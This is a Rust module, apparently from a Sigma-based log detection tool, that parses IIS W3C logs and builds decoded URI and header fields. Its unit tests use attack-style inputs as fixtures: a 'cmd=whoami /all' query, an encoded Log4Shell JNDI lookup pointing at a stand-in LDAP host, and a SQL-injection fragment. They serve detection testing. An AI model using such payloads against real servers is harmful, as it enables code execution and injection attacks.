//! IIS W3C extended logs: the `#Fields:` directive names the columns (and may change mid-file,
//! e.g. after a restart), values are space-separated, `-` is empty, `+` in header values is a
//! space. IIS writes UTC by definition, so `date` + `time` is taken as UTC.
//!
//! Column names are mapped to Sigma's webserver names (`cs(User-Agent)` -> `cs-user-agent`,
//! `cs(Referer)` -> `cs-referer`, `cs(Cookie)` -> `cs-cookie`, `cs(Host)` -> `cs-host`); others
//! keep their W3C names, which Sigma's taxonomy already uses. `cs-uri` is built as stem `?` query,
//! and the `*-decoded` companions are added as for Apache logs (see [`crate::webdecode`]).

use crate::access::{push_header, push_uri};
use crate::time::parse_date_time;
use spoor_event::{Event, Value};
use std::sync::Arc;

/// What one IIS line is (for tests: the reader uses [`IisParser::columns`]).
#[cfg(test)]
pub(crate) enum IisLine {
    /// A `#` directive (new `#Fields:` are taken in); not a record.
    Directive,
    /// A record.
    Record(Event),
    /// A record that could not be read.
    Bad(String),
}

/// IIS reading state: the current column names.
#[derive(Default)]
pub(crate) struct IisParser {
    /// Column names (Sigma form), made once per `#Fields:` and shared by all events.
    fields: Vec<Arc<str>>,
    /// `<name>-decoded` for the columns that get a companion.
    decoded: Vec<Option<Arc<str>>>,
}

fn sigma_name(w3c: &str) -> Arc<str> {
    match w3c.to_ascii_lowercase().as_str() {
        "cs(user-agent)" => "cs-user-agent".into(),
        "cs(referer)" | "cs(referrer)" => "cs-referer".into(),
        "cs(cookie)" => "cs-cookie".into(),
        "cs(host)" | "cs-host" => "cs-host".into(),
        _ => w3c.into(),
    }
}

/// One IIS record cut into its columns (slices of the line), not yet built into an event.
pub(crate) struct IisColumns<'a> {
    parser: &'a IisParser,
    vals: Vec<&'a [u8]>,
    timestamp: Option<chrono::DateTime<chrono::Utc>>,
}

/// Columns whose value is a number.
fn numeric(name: &str) -> bool {
    matches!(
        name,
        "sc-status"
            | "sc-substatus"
            | "sc-win32-status"
            | "sc-bytes"
            | "cs-bytes"
            | "time-taken"
            | "s-port"
    )
}

/// A header value as logged: `+` stands for a space.
fn spaced(raw: &[u8]) -> Vec<u8> {
    raw.iter()
        .map(|b| if *b == b'+' { b' ' } else { *b })
        .collect()
}

impl IisParser {
    /// Parses one line; `event` is a fresh event at the line's position.
    #[cfg(test)]
    pub(crate) fn line(&mut self, line: &[u8], mut ev: Event) -> IisLine {
        match self.columns(line) {
            Ok(Some(cols)) => {
                cols.fill(&mut ev);
                IisLine::Record(ev)
            }
            Ok(None) => IisLine::Directive,
            Err(r) => IisLine::Bad(r),
        }
    }

    /// Takes a directive in (`Ok(None)`), or cuts a record into its columns.
    pub(crate) fn columns<'a>(
        &'a mut self,
        line: &'a [u8],
    ) -> Result<Option<IisColumns<'a>>, String> {
        if let Some(d) = line.strip_prefix(b"#") {
            if let Some(f) = d.strip_prefix(b"Fields:") {
                self.fields = String::from_utf8_lossy(f)
                    .split_ascii_whitespace()
                    .map(sigma_name)
                    .collect();
                self.decoded = self
                    .fields
                    .iter()
                    .map(|n| {
                        matches!(&**n, "cs-user-agent" | "cs-referer")
                            .then(|| Arc::from(format!("{n}-decoded")))
                    })
                    .collect();
            }
            return Ok(None);
        }
        if self.fields.is_empty() {
            return Err("record before any #Fields: directive".into());
        }
        let vals: Vec<&[u8]> = line
            .split(|b| *b == b' ')
            .filter(|v| !v.is_empty())
            .collect();
        if vals.len() != self.fields.len() {
            return Err(format!(
                "{} values for {} #Fields columns",
                vals.len(),
                self.fields.len()
            ));
        }
        let mut cols = IisColumns {
            parser: self,
            vals,
            timestamp: None,
        };
        if let (Some(d), Some(t)) = (cols.get("date"), cols.get("time")) {
            cols.timestamp =
                parse_date_time(&String::from_utf8_lossy(d), &String::from_utf8_lossy(t));
            if cols.timestamp.is_none() {
                return Err("bad date or time".into());
            }
        }
        Ok(Some(cols))
    }
}

impl<'a> IisColumns<'a> {
    fn get(&self, name: &str) -> Option<&'a [u8]> {
        self.parser
            .fields
            .iter()
            .position(|f| &**f == name)
            .and_then(|i| self.vals.get(i).copied())
    }

    /// The record's time (`date` + `time`, UTC).
    pub(crate) fn timestamp(&self) -> Option<chrono::DateTime<chrono::Utc>> {
        self.timestamp
    }

    /// The URI as requested: stem, and `?` query when there is one.
    fn uri(&self) -> Option<Vec<u8>> {
        let stem = self.get("cs-uri-stem")?;
        Some(match self.get("cs-uri-query") {
            Some(q) if q != b"-" => [stem, b"?", q].concat(),
            _ => stem.to_vec(),
        })
    }

    /// Fills `ev` with the record.
    pub(crate) fn fill(&self, ev: &mut Event) {
        ev.timestamp = self.timestamp;
        let p = self.parser;
        for ((name, decoded), raw) in p.fields.iter().zip(&p.decoded).zip(&self.vals) {
            if let Some(decoded) = decoded {
                push_header(ev, name.clone(), decoded.clone(), &spaced(raw));
                continue;
            }
            match &**name {
                "cs-uri-stem" | "cs-uri-query" => {}
                n if numeric(n) => ev.fields.push((name.clone(), number(raw))),
                _ => ev.fields.push((name.clone(), text(raw))),
            }
        }
        if let Some(uri) = self.uri() {
            push_uri(ev, &uri);
        }
    }

    /// The texts [`IisColumns::fill`] stores that are not slices of the line (for line gates):
    /// header values with `+` made spaces and their decoded companions, the joined URI and its
    /// decoded companion, numbers whose decimal form differs from what was logged.
    pub(crate) fn derived_texts(&self, out: &mut Vec<u8>) {
        let mut push = |t: &[u8]| {
            out.extend_from_slice(t);
            out.push(b'\n');
        };
        let p = self.parser;
        for ((name, decoded), raw) in p.fields.iter().zip(&p.decoded).zip(&self.vals) {
            if decoded.is_some() {
                if crate::webdecode::may_be_encoded(raw) {
                    let sp = spaced(raw);
                    push(&sp);
                    push(crate::webdecode::decode(&sp, crate::webdecode::Kind::Header).as_bytes());
                }
            } else if numeric(name) {
                if let Value::Int(i) = number(raw) {
                    let canon = i.to_string();
                    if canon.as_bytes() != *raw {
                        push(canon.as_bytes());
                    }
                }
            }
        }
        if let Some(uri) = self.uri() {
            push(&uri);
            // With nothing to decode the decoded URI is the URI (ASCII alike).
            if crate::webdecode::may_be_encoded(&uri) {
                push(crate::webdecode::decode(&uri, crate::webdecode::Kind::Uri).as_bytes());
            }
        }
    }

    /// The value [`IisColumns::fill`] would store in field `name` (`None` when absent or `null`).
    pub(crate) fn value(&self, name: &str) -> Option<Value> {
        let v = match name {
            n if numeric(n) => number(self.get(n)?),
            "cs-uri-stem"
            | "cs-uri-query"
            | "cs-uri"
            | "cs-uri-decoded"
            | "cs-user-agent"
            | "cs-referer"
            | "cs-user-agent-decoded"
            | "cs-referer-decoded" => {
                let mut ev = Event::new("", spoor_event::Position::Line(0));
                self.fill(&mut ev);
                return ev
                    .fields
                    .into_iter()
                    .find(|(n, _)| &**n == name)
                    .map(|(_, v)| v)
                    .filter(|v| !v.is_null());
            }
            n => text(self.get(n)?),
        };
        (!v.is_null()).then_some(v)
    }
}

fn text(b: &[u8]) -> Value {
    if b == b"-" {
        Value::Null
    } else {
        Value::str(String::from_utf8_lossy(b))
    }
}

fn number(b: &[u8]) -> Value {
    std::str::from_utf8(b)
        .ok()
        .and_then(|s| s.parse::<i64>().ok())
        .map(Value::Int)
        .unwrap_or_else(|| text(b))
}

#[cfg(test)]
mod tests {
    use super::*;
    use spoor_event::{field_text, Position};

    fn rec(p: &mut IisParser, line: &str) -> Event {
        match p.line(line.as_bytes(), Event::new("t", Position::Line(1))) {
            IisLine::Record(e) => e,
            IisLine::Bad(r) => panic!("bad: {r}"),
            IisLine::Directive => panic!("directive"),
        }
    }

    #[test]
    fn fields_header_and_changes() {
        let mut p = IisParser::default();
        assert!(matches!(
            p.line(b"2019-09-03 10:13:36 x", Event::new("t", Position::Line(1))),
            IisLine::Bad(_)
        ));
        assert!(matches!(
            p.line(b"#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent)", Event::new("t", Position::Line(1))),
            IisLine::Directive
        ));
        let e = rec(&mut p, "2019-09-03 10:13:36 10.0.2.17 GET /erp/conn.aspx proxy&port=3389 200 Mozilla/5.0+(Windows+NT)");
        assert_eq!(
            field_text(&e.fields, "cs-uri").as_deref(),
            Some("/erp/conn.aspx?proxy&port=3389")
        );
        assert_eq!(
            field_text(&e.fields, "cs-uri-query").as_deref(),
            Some("proxy&port=3389")
        );
        assert_eq!(
            field_text(&e.fields, "cs-user-agent").as_deref(),
            Some("Mozilla/5.0 (Windows NT)")
        );
        assert_eq!(e.get("sc-status"), Some(&Value::Int(200)));
        assert_eq!(
            e.timestamp.unwrap().to_rfc3339(),
            "2019-09-03T10:13:36+00:00"
        );
        p.line(
            b"#Fields: date time c-ip cs-uri-stem cs-uri-query",
            Event::new("t", Position::Line(1)),
        );
        let e = rec(&mut p, "2019-09-03 10:13:37 10.0.2.17 /x -");
        assert_eq!(field_text(&e.fields, "cs-uri").as_deref(), Some("/x"));
        assert_eq!(e.get("cs-uri-query"), Some(&Value::Null));
        assert!(matches!(
            p.line(
                b"2019-09-03 10:13:37 10.0.2.17",
                Event::new("t", Position::Line(1))
            ),
            IisLine::Bad(_)
        ));
    }

    /// The decoded companions an IIS line gets, exactly: the URI's stem and query decoded (a
    /// `+` is a space only in the query, double encoding undone), the headers' `+` read as
    /// spaces before decoding, and `-` headers null in both forms.
    #[test]
    fn decoded_companions_of_uri_agent_and_referer() {
        let mut p = IisParser::default();
        p.line(
            b"#Fields: date time cs-uri-stem cs-uri-query cs(User-Agent) cs(Referer)",
            Event::new("t", Position::Line(1)),
        );
        let e = rec(
            &mut p,
            "2024-07-12 00:00:01 /a+b/%2561.aspx cmd=whoami+/all&x=%2524%257Bjndi%253A Mozilla/5.0+%24%7Bjndi:ldap://h/a%7D https://r.example/?q=%2527or+1",
        );
        let t = |n: &str| field_text(&e.fields, n);
        assert_eq!(
            t("cs-uri").as_deref(),
            Some("/a+b/%2561.aspx?cmd=whoami+/all&x=%2524%257Bjndi%253A")
        );
        assert_eq!(
            t("cs-uri-decoded").as_deref(),
            Some("/a+b/a.aspx?cmd=whoami /all&x=${jndi:")
        );
        assert_eq!(
            t("cs-user-agent").as_deref(),
            Some("Mozilla/5.0 %24%7Bjndi:ldap://h/a%7D")
        );
        assert_eq!(
            t("cs-user-agent-decoded").as_deref(),
            Some("Mozilla/5.0 ${jndi:ldap://h/a}")
        );
        assert_eq!(
            t("cs-referer-decoded").as_deref(),
            Some("https://r.example/?q='or 1")
        );
        let e = rec(&mut p, "2024-07-12 00:00:02 /x - - -");
        assert_eq!(t_of(&e, "cs-uri-decoded").as_deref(), Some("/x"));
        for name in [
            "cs-user-agent",
            "cs-user-agent-decoded",
            "cs-referer",
            "cs-referer-decoded",
        ] {
            assert_eq!(e.get(name), Some(&Value::Null), "{name}");
        }
    }

    fn t_of(e: &Event, name: &str) -> Option<String> {
        field_text(&e.fields, name)
    }
}
